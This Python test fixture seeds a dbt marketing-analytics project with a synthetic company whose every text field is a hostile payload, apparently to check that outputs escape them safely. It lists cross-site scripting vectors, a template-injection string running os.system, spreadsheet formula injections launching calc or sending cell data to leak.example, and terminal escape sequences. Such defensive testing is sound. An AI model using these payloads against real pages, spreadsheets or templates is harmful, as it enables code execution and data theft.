"""A small company whose every free text attacks whoever shows it.

Each name would set `window.ran`, open a dialog or ask a host for something, if a page
ran it; run a formula, if a spreadsheet did; or steer a terminal.
"""

import csv
from datetime import date, timedelta
from pathlib import Path

from copying import copied_project
from run_dbt import DbtRun, run_dbt

AS_OF_DATE = "2026-06-30"
# Names that a page may run.
FOR_PAGES = [
    "<script>ran='script'</script>",
    "<img src=x onerror=\"ran='image'\">",
    "'\"><svg onload=\"ran='svg'\"><animate onbegin=\"ran='animate'\" attributeName=x>",
    "</text></g></svg><script>ran='after svg'</script><svg>",
    "</script><script>ran='after script'</script>",
    "</style><script>ran='after style'</script><style>@import 'http://leak.example/a';",
    "</title></textarea></template><iframe srcdoc=\"<script>parent.ran='x'</script>\">",
    "<foreignObject><body onload=\"ran='body'\" onmouseover=\"ran='over'\">",
    "<a xlink:href=\"javascript:ran='link'\" href=\"javascript:ran='link'\">press</a>",
    "<use href=\"data:image/svg+xml,<svg id='x' onload='ran=1'/>#x\"/>",
    "<!-- --><![CDATA[ ]]> --!><script>ran='comment'</script>",
    "&lt;script&gt;ran='entity'&lt;/script&gt; &#60;b onclick=x&#62;",
    "\\u003cscript\\u003eran='escape'\\u003c/script\\u003e \\x3cimg src=x\\x3e",
    "javascript:ran='address'",
    "[press](javascript:ran='markdown') ![](http://leak.example/b) <http://leak.example>",
    "{{ 7 * 7 }} {% raw %} {# #} {{ cycler.__init__.__globals__.os.system('id') }}",
    "${ran='template'} `${ran='template'}` #{ran} <%= ran %>",
    "'-(window.ran='expression')-' \";window.ran='expression';// datum.ran || 1",
    "@font-face { font-family: Inter Variable; src: url(http://leak.example/c) }",
    '</div> id="a" href="#b" url(#c) url(\'#d\') style="color:url(//leak.example)"',
]
# Names that a spreadsheet may run.
FOR_SPREADSHEETS = [
    '=HYPERLINK("http://leak.example/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # These four in their wide forms.
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    # With something before them that is not seen, or an apostrophe already.
    "\ufeff=1+1",
    "\u2007\x01\u200b+1+1",
    "'=1+1",
    "''@SUM(1)",
    "'quoted'",
    "http://leak.example/d",
    "mailto:somebody@leak.example",
    "internal:Sheet1!A1",
    "external:\\\\leak.example\\x.xlsx",
]
# Names that a terminal may obey.
FOR_TERMINALS = [
    "\x1b[2J\x1b[31mred\x07",
    "\x1b]0;title\x07\x1b]8;;http://leak.example\x1b\\press\x1b]8;;\x1b\\",
    "\x9b2J back\x08space",
    "first line\nsecond line\rthird",
]
NAMES = FOR_PAGES + FOR_SPREADSHEETS + FOR_TERMINALS


def build(folder: Path) -> DbtRun:
    """Build the company's tables into `folder / "hostile.duckdb"`."""
    project, raw = copied_project(folder), folder / "raw"
    raw.mkdir()
    for name, rows in _rules().items():
        _add(project / "seeds" / "rules" / f"{name}.csv", rows)
    for name, rows in _raw().items():
        _write(raw / f"{name}.csv", rows)
    return run_dbt(
        *("build", "--exclude-resource-type", "unit_test", "test"),
        duckdb_path=folder / "hostile.duckdb",
        raw_files=raw,
        project=project,
        variables={"as_of_date": AS_OF_DATE},
    )


def _rules() -> dict[str, list[dict]]:
    """Return the rows that rule seeds get, beside their own."""
    return {
        "channels": [
            {"channel": name, "direction": "inbound", "is_marketing": "true"}
            for name in NAMES
        ],
        "lead_source_channels": [
            {"lead_source": name, "channel": name} for name in NAMES
        ],
        "touch_types": [
            {
                "touch_type": name,
                "points": 200,
                "is_interaction": "true",
                "is_outreach": "false",
                "is_hand_raise": "true",
                "is_product_use": "false",
                "default_channel": name,
            }
            for name in NAMES
        ],
        "deal_stages": [{"crm_stage": name, "stage": "won"} for name in NAMES],
        "lead_statuses": [{"crm_status": name, "status": "mql"} for name in NAMES],
        "cost_types": [{"cost_type": name, "kind": "program"} for name in NAMES],
        "personas": [
            {"priority": 1000 + i, "persona": name, "job_title_pattern": f"role {i}"}
            for i, name in enumerate(NAMES)
        ],
        "exclusions": [
            {
                "rule": name,
                "attribute": "company_name",
                "operator": "equals",
                "value": f"left out {name}",
                "reason": name,
            }
            for name in NAMES
        ],
        "fit_rules": [
            {
                "rule": name,
                "attribute": "industry",
                "operator": "equals",
                "value": name,
                "points": 100,
            }
            for name in NAMES
        ],
        "goal_scenarios": [{"scenario": name, "revenue_goal": 1e6} for name in NAMES],
        "benchmarks": [
            {"metric": "win_rate", "go_to_market": name, "low": 0.1, "source": name}
            for name in NAMES
        ],
    }


def _raw() -> dict[str, list[dict]]:
    """Return the raw tables: for each name a lead that buys, and all that led to it."""
    tables: dict[str, list[dict]] = {}
    for i, name in enumerate(NAMES):
        start = date.fromisoformat(AS_OF_DATE) - timedelta(days=60 + 4 * i)
        lead = {"lead_id": f"lead {name}", "created_at": start, "lead_source": name}
        texts = ("company_name", "country", "region", "industry", "gender")
        texts += ("interest", "challenge", "owner")
        lead |= dict.fromkeys(texts, name) | {"job_title": f"role {i}"}
        left_out = {"lead_id": f"left out {name}", "company_name": f"left out {name}"}
        tables.setdefault("leads", []).extend([lead, lead | left_out])
        touch = dict.fromkeys(
            ("touch_type", "channel", "utm_campaign", "asset", "program"), name
        )
        touch |= {"touchpoint_id": f"touch {name}", "lead_id": lead["lead_id"]}
        touch |= {"occurred_at": start + timedelta(days=1), "utm_source": name}
        unknown = {"touchpoint_id": f"other {name}", "channel": f"other {name}"}
        tables.setdefault("touchpoints", []).extend([touch, touch | unknown])
        tables.setdefault("deals", []).append(
            {
                "deal_id": f"deal {name}",
                "lead_id": lead["lead_id"],
                "account_id": f"account {name}",
                "created_at": start + timedelta(days=10),
                "closed_at": start + timedelta(days=30),
                "stage": name,
                "amount": 1000 + i,
                "owner": name,
                "region": name,
            }
        )
        spent = dict.fromkeys(("channel", "campaign", "cost_type", "utm_source"), name)
        tables.setdefault("marketing_spend", []).append(
            spent | {"spend_id": f"cost {name}", "spend_date": start, "amount": 100 + i}
        )
        tables.setdefault("lead_status_changes", []).append(
            {"lead_id": lead["lead_id"], "status": name, "changed_at": start}
        )
        tables.setdefault("web_traffic", []).append(
            {"traffic_date": start, "utm_source": name, "visitors": 10, "sessions": 12}
        )
    return tables


def _add(path: Path, rows: list[dict]) -> None:
    """Add rows to a seed; what they do not name stays empty."""
    with path.open(newline="", encoding="utf-8") as file:
        header = next(csv.reader(file))
    with path.open("a", newline="", encoding="utf-8") as file:
        csv.DictWriter(file, header, lineterminator="\n").writerows(rows)


def _write(path: Path, rows: list[dict]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
